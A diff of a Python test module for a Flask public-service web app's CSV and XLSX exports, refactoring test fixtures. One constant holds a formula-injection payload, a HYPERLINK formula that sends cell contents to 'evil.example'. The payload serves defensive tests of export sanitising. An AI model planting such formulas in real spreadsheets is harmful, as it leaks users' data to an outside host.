@@ -10,23 +10,24 @@ from __future__ import annotations
 
 import csv
 import io
-from datetime import timedelta
+from datetime import UTC, datetime, timedelta
 
 from flask import url_for
 from openpyxl import Workbook, load_workbook
 
 from antrian.issuing import issue_ticket
 from antrian.service import call_next, finish
-from tests.test_antrian_rules import MONDAY_9
-from tests.test_survei_pages import _file_thirty
 from webapp.berkas.service import Applicant, register
 from webapp.core.db import utcnow
 from webapp.core.extensions import db
 from webapp.core.localtime import local_today
 from webapp.core.tables import FORMULA_TRIGGERS, append_row, csv_safe, csv_text, workbook_bytes
 from webapp.pengaduan.service import ComplaintInput, file_complaint
+from webapp.survei.filing import file_response
+from webapp.survei.models import ELEMENT_CODES
 from webapp.survei.periods import Period
 
+MONDAY_9 = datetime(2026, 11, 23, 2, 0, tzinfo=UTC)  # 09.00 WIB, a working day
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
@@ -131,7 +132,9 @@ def test_monthly_complaint_report_xlsx(client, login, make_service):
 
 def test_survey_tabulation_xlsx(client, login, make_service):
     service = make_service(title="+62 Layanan Uji")
-    _file_thirty(service)
+    file_response(service=service, answers=dict.fromkeys(ELEMENT_CODES, 3), sex="P", age=30, education="sma",
+                  occupation="swasta", actor=None)
+    db.session.commit()
     login("kepala_dinas")
     period = Period.semester_of(local_today(service.unit))
     response = client.get(url_for("survei.tabulation", slug=service.unit.slug, periode=period.key))
